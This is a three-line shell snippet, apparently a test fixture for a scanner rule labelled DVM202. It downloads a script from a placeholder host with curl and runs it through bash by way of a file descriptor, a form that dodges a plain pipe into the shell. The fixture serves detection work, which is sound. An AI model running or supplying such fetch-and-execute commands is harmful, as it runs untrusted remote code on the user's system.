# expect: DVM202
exec 5< <(curl -s https://example.org/i.sh)
bash /dev/fd/5
